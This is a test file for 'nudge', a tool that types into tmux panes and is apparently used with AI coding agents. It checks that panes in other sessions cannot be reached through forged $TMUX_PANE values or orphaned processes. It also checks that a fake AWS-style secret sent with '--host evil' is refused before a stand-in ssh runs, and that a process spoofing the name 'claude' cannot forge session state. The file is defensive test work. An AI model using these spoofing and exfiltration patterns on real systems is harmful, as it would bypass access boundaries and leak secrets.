// The asker is the proven pane (issue 61): from inside a pane of session `main`, with
// $TMUX_PANE unset, forged to another session's pane, or naming its own, no door reaches a pane
// of session `other` — through the real CLI and a real `nudge mcp`, each started below the
// pane's process (test/fixtures/runner.mjs), or having left it with the pane's terminal kept;
// config.toml's [submit] panes = "server" widens it, the person outside tmux reaches all. And
// --host to a host config.toml does not grant: exit 2, with a stand-in ssh that is never run.
import {execFileSync} from 'node:child_process';
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  writeFileSync,
} from 'node:fs';
import {hostname} from 'node:os';
import {join} from 'node:path';
import {describe, expect, test} from 'vitest';
import {systemTree} from '../../src/process/tree.js';
import {callTool, spawnedMcpIn} from '../helpers/mcp-client.js';
import {serverWorld} from '../helpers/nudge-home.js';
import {processViewEnv} from '../helpers/process-view.js';
import {CLI, fixture, runNudge, runNudgeIn, submitArgs} from '../helpers/run-nudge.js';
import {runFromPane} from '../helpers/shell-pane.js';
import {useTempDir} from '../helpers/temp-dir.js';
import type {TmuxTestServer} from '../helpers/tmux-server.js';
import {waitFor} from '../helpers/wait-for.js';

const REFUSED = (flag: string, pane: string, own: string) =>
  `nudge: ${flag} ${pane} is out of reach: it is in another session than the pane nudge runs in (${own}), and config.toml's [submit] panes is not "server".`;

/** A detached session, printing its pane's id. */
const NEW_SESSION = ['new-session', '-d', '-P', '-F', '#{pane_id}'];

/** Session `main` (%0, a shell at its prompt) and session `other` (a shell and a cat). */
async function twoSessions() {
  const {server, home} = await serverWorld();
  await server.waitForScreen('%0', /^\$/m);
  const other = (await server.tmux(...NEW_SESSION, '-s', 'other', 'bash', '--norc')).trim();
  const cat = (
    await server.tmux('split-window', '-d', '-t', other, '-P', '-F', '#{pane_id}', 'cat')
  ).trim();
  return {server, home, other, cat};
}

/** What `pane` shows; it must hold none of `marks`. */
async function untouched(server: TmuxTestServer, pane: string, ...marks: string[]) {
  const screen = await server.capture(pane);
  for (const mark of marks) expect(screen, `${mark} reached ${pane}`).not.toContain(mark);
}

describe('the asker is the pane its process tree proves', () => {
  test('$TMUX_PANE unset, forged or its own: no door reaches another session; the person reaches all', async () => {
    const {server, home, other, cat} = await twoSessions();
    const inside = await runFromPane(server, '%0');
    const stripped = (args: string[]) => runNudgeIn(inside.socket, args, {NUDGE_HOME: home});
    const forged = (pane: string, args: string[]) =>
      runNudgeIn(inside.socket, args, {NUDGE_HOME: home, TMUX: inside.env.TMUX, TMUX_PANE: pane});
    const flags = ['--until', 'exit', '--no-notice'];

    // No $TMUX_PANE: still that pane, bounded as it is.
    const unset = await stripped(submitArgs(server.socket, other, flags, 'touch STRIPPED'));
    expect(unset.exitCode, unset.stderr).toBe(2);
    expect(unset.stderr).toBe(REFUSED('--pane', other, '%0'));
    // A forged claim to the other session's pane does not move the bound there.
    const claimed = await forged(other, submitArgs(server.socket, other, flags, 'touch FORGED'));
    expect(claimed.exitCode, claimed.stderr).toBe(2);
    expect(claimed.stderr).toBe(REFUSED('--pane', other, '%0'));
    // Nor does one to the notice pane: the claim only narrows — while it names another pane,
    // even the caller's own is refused.
    const notice = await forged(cat, [
      ...submitArgs(server.socket, '%0', ['--until', 'exit'], 'true'),
      '--notify-pane',
      cat,
    ]);
    expect(notice.exitCode, notice.stderr).toBe(2);
    expect(notice.stderr).toBe(REFUSED('--pane', '%0', cat));
    // The other doors: wait and expect read, watch types, schedule marks.
    for (const args of [
      ['wait', '-S', server.socket, '--pane', other, '--timeout', '2s'],
      ['expect', '-S', server.socket, other, 'x', '--timeout', '2s'],
      ['explain', '-S', server.socket, other],
      [
        'watch',
        'start',
        'w1',
        '-S',
        server.socket,
        '--pane',
        other,
        '--plan',
        'check',
        '--assess-cmd',
        'true',
      ],
    ]) {
      const r = await stripped(args);
      expect(r.exitCode, `${args.join(' ')}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toContain(`${other} is out of reach`);
    }
    // The MCP server the pane starts, its environment stripped: bounded the same.
    const mcp = await spawnedMcpIn(
      {socket: inside.socket, env: {}},
      {NUDGE_HOME: home, NUDGE_TMUX_SOCKET: server.socket},
    );
    const tool = await callTool(mcp, 'submit', {pane: other, text: 'touch MCP', until: 'exit'});
    expect(tool.isError, JSON.stringify(tool)).toBe(true);
    expect(tool.content[0]?.text).toContain(`--pane ${other} is out of reach`);
    // Its own pane, named or claimed: typed.
    const own = await stripped(submitArgs(server.socket, '%0', ['--no-notice', '--wait'], 'true'));
    expect(own.exitCode, own.stderr).toBe(0);
    await untouched(server, other, 'STRIPPED', 'FORGED', 'MCP');
    await untouched(server, cat, 'STRIPPED', 'FORGED', 'MCP');

    // The person, outside tmux: every pane.
    const person = await runNudge(
      submitArgs(
        server.socket,
        cat,
        ['--no-notice', '--until', 'regex:PERSON-TYPED'],
        'PERSON-TYPED',
      ),
      {NUDGE_HOME: home},
    );
    expect(person.exitCode, person.stderr).toBe(0);
    await server.waitForScreen(cat, /PERSON-TYPED\nPERSON-TYPED/);
    // Its job is out of the stripped pane's reach too: not listed, not shown, not cancelled.
    const job = person.stdout.trim();
    for (const args of [
      ['status', job],
      ['cancel', job],
      ['queue', 'edit', job, '--text', 'touch EDITED'],
    ]) {
      const r = await stripped(args);
      expect(r.exitCode, `${args.join(' ')}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toBe(
        `nudge: Job ${job} (pane ${cat}) is out of reach: it is in another session than the pane nudge runs in (%0), and config.toml's [submit] panes is not "server".`,
      );
    }
    const jobs = await stripped(['jobs', '--json', '--host', 'local']);
    expect(jobs.exitCode, jobs.stderr).toBe(0);
    expect(jobs.stdout).not.toContain(job);
  });

  test.each([['proc'], ['mac']] as const)(
    "left the pane's process tree, its terminal kept: that pane still (%s view)",
    async (view) => {
      const {server, home, other} = await twoSessions();
      const dir = useTempDir('nudge-orphan-');
      const rc = join(dir, 'rc');
      const err = join(dir, 'err');
      const seen = processViewEnv(view, dir);
      const vars = Object.entries(seen.env)
        .map(([k, v]) => `${k}='${v}'`)
        .join(' ');
      // A subshell that starts nudge in the background and ends at once: nudge's parent is gone,
      // no $TMUX nor $TMUX_PANE, but the pane's terminal is still its controlling terminal.
      const args = submitArgs(
        server.socket,
        other,
        ['--until', 'exit', '--no-notice'],
        'touch ORPHAN',
      );
      const line = `( env -u TMUX -u TMUX_PANE NUDGE_HOME=${home} ${vars} sh -c '"$0" "$@" 2>${err}; echo $? >${rc}' ${process.execPath} ${CLI} ${args.map((a) => `'${a}'`).join(' ')} & )`;
      await server.tmux('send-keys', '-t', '%0', '-l', line);
      await server.tmux('send-keys', '-t', '%0', 'Enter');
      await waitFor('the orphaned nudge ended', async () => (existsSync(rc) ? true : undefined), {
        timeoutMs: 60_000,
      });
      await waitFor('its status written', async () => readFileSync(rc, 'utf8').trim() || undefined);
      expect(readFileSync(rc, 'utf8').trim(), readFileSync(err, 'utf8')).toBe('2');
      expect(readFileSync(err, 'utf8').trim()).toBe(REFUSED('--pane', other, '%0'));
      await untouched(server, other, 'ORPHAN');
      // Through the ps reader, its terminal was read from ps, in the one listing that gave
      // its ancestry.
      if (view === 'mac') {
        const calls = seen.calls();
        expect(calls, calls.join('\n')).toContain('ps -ww -A -o pid=,ppid=,tty=,command=');
        expect(
          calls.filter((c) => c.startsWith('ps -o tty= -p ')),
          calls.join('\n'),
        ).toEqual([]);
      }
    },
  );

  test('config.toml [submit] panes = "server" widens the proven pane to its server', async () => {
    const {server, home, cat} = await twoSessions();
    const config = useTempDir('nudge-config-');
    mkdirSync(join(config, 'nudge'));
    writeFileSync(join(config, 'nudge', 'config.toml'), '[submit]\npanes = "server"\n');
    const inside = await runFromPane(server, '%0');
    const r = await runNudgeIn(
      inside.socket,
      submitArgs(server.socket, cat, ['--no-notice', '--until', 'regex:WIDENED'], 'WIDENED'),
      {NUDGE_HOME: home, XDG_CONFIG_HOME: config},
    );
    expect(r.exitCode, r.stderr).toBe(0);
    await server.waitForScreen(cat, /WIDENED\nWIDENED/);
  });
});

describe('nothing leaves before the grant', () => {
  test('--host to a host config.toml does not grant: exit 2 from a pane, and ssh is never run', async () => {
    const {server, home} = await twoSessions();
    const bin = useTempDir('nudge-ssh-stand-in-');
    const ran = join(bin, 'ran');
    writeFileSync(
      join(bin, 'ssh'),
      `#!/bin/sh\necho "$@" >> '${ran}'\ncat >> '${ran}'\nexit 255\n`,
    );
    chmodSync(join(bin, 'ssh'), 0o755);
    const inside = await runFromPane(server, '%0');
    const env = {NUDGE_HOME: home, PATH: `${bin}:${process.env.PATH ?? ''}`};
    const text = 'AKIA-SECRET-TEXT';
    for (const [extra, from] of [
      [{}, 'a pane'],
      [inside.env, '%0'],
    ] as const) {
      const r = await runNudgeIn(
        inside.socket,
        ['submit', '--host', 'evil', '--pane', '%0', '--', text],
        {...env, ...extra},
      );
      expect(r.exitCode, r.stderr).toBe(2);
      expect(r.stderr).toBe(
        `nudge: --host evil is out of reach: the pane that asked (${hostname()}:${from}) is on another host, whose config.toml [submit] hosts does not name evil.`,
      );
      for (const args of [
        ['jobs', '--host', 'evil'],
        ['status', 'evil:0mwwmp6kj-ftdv'],
      ]) {
        const other = await runNudgeIn(inside.socket, args, {...env, ...extra});
        expect(other.exitCode, `${args.join(' ')}: ${other.stderr}`).toBe(2);
      }
    }
    expect(existsSync(ran), existsSync(ran) ? readFileSync(ran, 'utf8') : '').toBe(false);
  });
});

describe("a pane's terminal, as the process tree reads it", () => {
  test.each([['proc'], ['ps']] as const)(
    "the shell at its prompt is its terminal's foreground group, and its terminal is the pane's (%s view)",
    async (view) => {
      const {server} = await serverWorld();
      await server.waitForScreen('%0', /^\$/m);
      const [pid, tty] = (await server.tmux('display', '-p', '-t', '%0', '#{pane_pid} #{pane_tty}'))
        .trim()
        .split(' ');
      const before = process.env.NUDGE_PROCESS_VIEW;
      process.env.NUDGE_PROCESS_VIEW = view;
      try {
        expect(await systemTree.groupsOf(Number(pid))).toEqual({
          group: Number(pid),
          foreground: Number(pid),
        });
        expect(await systemTree.terminalOf(Number(pid))).toBe(tty);
      } finally {
        if (before === undefined) delete process.env.NUDGE_PROCESS_VIEW;
        else process.env.NUDGE_PROCESS_VIEW = before;
      }
    },
  );
});

describe('the Claude Code session record is the claude process itself', () => {
  test('a record a background process of the pane wrote, named claude, is not the session: no forged "waiting" (issue 61)', async () => {
    const {server, home} = await serverWorld();
    await server.waitForScreen('%0', /^\$/m);
    const dir = useTempDir('nudge-forged-');
    const config = join(dir, 'claude-config');
    // The pane's program: a stand-in named claude (a copy of sleep: its name is claude).
    const claude = join(dir, 'claude');
    copyFileSync(execFileSync('sh', ['-c', 'command -v sleep'], {encoding: 'utf8'}).trim(), claude);
    chmodSync(claude, 0o755);
    // Beside it, started by the pane's shell in the background and calling itself claude: a
    // record with its own pid and start time, saying the session waits for a person.
    const forge = `(exec -a claude ${process.execPath} ${fixture('forge-claude-record.mjs')} ${config}) &`;
    await server.tmux('send-keys', '-t', '%0', '-l', `${forge} ${claude} infinity`);
    await server.tmux('send-keys', '-t', '%0', 'Enter');
    await waitFor('the forged record', async () =>
      existsSync(join(config, 'sessions')) && readdirSync(join(config, 'sessions')).length > 0
        ? true
        : undefined,
    );
    await waitFor('claude in the foreground', async () =>
      (await server.tmux('display', '-p', '-t', '%0', '#{pane_current_command}')).trim() ===
      'claude'
        ? true
        : undefined,
    );
    const r = await runNudge(['wait', '-S', server.socket, '--pane', '%0', '--timeout', '3s'], {
      NUDGE_HOME: home,
      CLAUDE_CONFIG_DIR: config,
    });
    expect(r.exitCode, `${r.stdout}\n${r.stderr}`).not.toBe(3);
    expect(`${r.stdout}${r.stderr}`).not.toContain('FORGED-DIALOG');
  });
});
